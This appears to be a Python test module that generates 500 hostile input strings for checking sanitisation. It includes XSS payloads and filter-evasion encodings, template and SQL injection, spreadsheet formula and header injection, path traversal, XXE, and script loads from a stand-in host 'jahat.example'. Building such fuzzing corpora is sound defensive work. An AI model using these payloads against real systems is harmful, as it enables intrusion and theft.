"""Five hundred hostile strings, made from parts: what would run where a page, mail or card let it.

Each that runs adds to `window.__ran` or asks HOST for something.
"""

from __future__ import annotations

import itertools

HOST = "jahat.example"
MARK = "__ran.push(1)"
HOW_MANY = 500

BREAKS = (
    "",
    '">',
    "'>",
    "-->",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "]]>",
    "</svg>",
    "*/",
    '\\">',
)
TAGS = (
    f"<script>{MARK}</script>",
    f"<script src=//{HOST}/a.js></script>",
    f"<img src=x onerror={MARK}>",
    f"<svg onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f"<svg><a xlink:href=javascript:{MARK}>x</a>",
    f"<math><mtext><style><img src=x onerror={MARK}></style></mtext></math>",
    f'<iframe srcdoc="<script>parent.{MARK}</script>">',
    f"<body onload={MARK}>",
    f"<details open ontoggle={MARK}>",
    f"<input autofocus onfocus={MARK}>",
    f"<video><source onerror={MARK}></video>",
    f"<object data=javascript:{MARK}>",
    f"<embed src=javascript:{MARK}>",
    f"<link rel=stylesheet href=//{HOST}/a.css>",
    f"<base href=//{HOST}/>",
    f"<img src=//{HOST}/a.png>",
    f"<meta http-equiv=refresh content=0;url=//{HOST}/>",
    f"<form action=//{HOST}/><input type=submit></form>",
    f"<style>@import '//{HOST}/a.css'</style>",
    f"<p style=background:url(//{HOST}/a.png)>",
    f"<a href=javascript:{MARK}>x</a>",
    f"<template shadowrootmode=open><img src=x onerror={MARK}></template>",
    f'<noscript><p title="</noscript><img src=x onerror={MARK}>">',
)
ATTRIBUTES = (
    f'" onmouseover="{MARK}" x="',
    f"' onfocus='{MARK}' autofocus x='",
    f'" autofocus onfocus={MARK} x="',
    f"x onerror={MARK} src=x",
    f'" style="background:url(//{HOST}/)" x="',
    f'" srcdoc="<script>parent.{MARK}</script>',
    f'"\nonload\n=\n{MARK} x="',
    f"` onclick={MARK} `",
)
ADDRESSES = (
    f"javascript:{MARK}",
    f"JaVaScRiPt:{MARK}",
    f"java\tscript:{MARK}",
    f"java\nscript:{MARK}",
    f" javascript:{MARK}",
    f"\x01javascript:{MARK}",
    f"javascript&colon;{MARK}",
    f"&#106;avascript:{MARK}",
    f"javascript:/*//*/{MARK}",
    f"vbscript:{MARK}",
    f"data:text/html,<script>{MARK}</script>",
    f"data:image/svg+xml,<svg onload={MARK}>",
    f"//{HOST}/",
    f"/\\{HOST}/",
    f"https://{HOST}@rembuk.test/",
    f"https:{HOST}/",
    f"blob:{MARK}",
)
WRITTEN = (
    "{}",
    "[x]({})",
    "[x](<{}>)",
    "<{}>",
    "![x]({})",
    "[x]: {}\n\n[x]",
    "[{0}]({0})",
    '[x](/a "{}")',
    "https://a.id/?{}",
)
ENCODED = (
    lambda text: text,
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: "".join(f"&#{ord(letter)};" for letter in text),
    lambda text: "".join(f"&#x{ord(letter):x}" for letter in text),
    lambda text: "".join(f"\\u{ord(letter):04x}" for letter in text),
    lambda text: text.replace("<", "%3C").replace(">", "%3E").replace('"', "%22"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "\u2039<").replace("script", "scr\u200bipt"),
    lambda text: text.replace("<", "<\u202e").swapcase(),
    lambda text: text.replace("script", "scr<script>ipt"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\u00a0\u2028"),
)
OTHERS = (
    "{{ settings.SECRET_KEY }}",
    "{% load x %}{% debug %}",
    "{{ 7|add:7 }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%s %(x)s %n",
    "{0.__class__.__mro__}",
    "{{constructor.constructor('" + MARK + "')()}}",
    "[[${7*7}]]",
    "`id`",
    "$(id)",
    "'; DROP TABLE x; --",
    '=HYPERLINK("//' + HOST + '")',
    "+cmd|' /C x'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    ";=1+1",
    '","=1+1',
    f"x\r\nBcc: a@{HOST}",
    f"x\nContent-Type: text/html\n\n<img src=x onerror={MARK}>",
    "x%0d%0aSet-Cookie:a=b",
    "\u202egnp.exe",
    "\u2066\u2069\u200f\u200b\ufeff",
    "A\u0300" * 40,
    "\U0001f9d1\u200d\U0001f33e" * 8,
    "\ufdfa" * 20,
    "\u0600\u0601",
    "../../../../etc/passwd",
    "file:///etc/passwd",
    "\\\\" + HOST + "\\a",
    "NaN",
    "1e309",
    "null",
    "undefined",
    "[object Object]",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<?xml-stylesheet href='javascript:" + MARK + "'?>",
    "<![CDATA[<script>" + MARK + "</script>]]>",
    "<!--[if IE]><script>" + MARK + "</script><![endif]-->",
    "&amp;lt;script&amp;gt;" + MARK,
    "</svg><script>" + MARK + "</script><svg>",
    "&#0;<script>" + MARK + "</script>",
)


def strings() -> list[str]:
    """Return HOW_MANY different hostile strings, the same in every run."""
    made: dict[str, None] = dict.fromkeys(OTHERS)
    made |= dict.fromkeys(ATTRIBUTES)
    made |= dict.fromkeys(shape.format(address) for shape, address in itertools.product(WRITTEN, ADDRESSES))
    whole = [before + tag for tag, before in itertools.product(TAGS, BREAKS)]
    # One way to write each in turn, so that every tag, break and spelling comes by.
    made |= dict.fromkeys(ENCODED[0](one) for one in whole)
    made |= dict.fromkeys(ENCODED[number % len(ENCODED)](one) for number, one in enumerate(whole))
    found = [one for one in made if one.strip()]
    assert len(found) >= HOW_MANY, len(found)
    # Spread over all kinds rather than cut off at the end.
    return [found[number * len(found) // HOW_MANY] for number in range(HOW_MANY)]


def packed(longest: int, begin: int) -> tuple[str, int]:
    """Return as many strings as fit into LONGEST letters from number BEGIN on, and the number after them.

    One string alone is cut where it does not fit.
    """
    every, taken, at = strings_once(), "", begin
    while at - begin < len(every):
        more = (" " if taken else "") + every[at % len(every)]
        if len(taken) + len(more) > longest:
            break
        taken, at = taken + more, at + 1
    return (taken, at) if taken else (every[begin % len(every)][:longest], begin + 1)


_kept: list[str] = []


def strings_once() -> list[str]:
    """Return the strings, made once a process."""
    if not _kept:
        _kept.extend(strings())
    return _kept
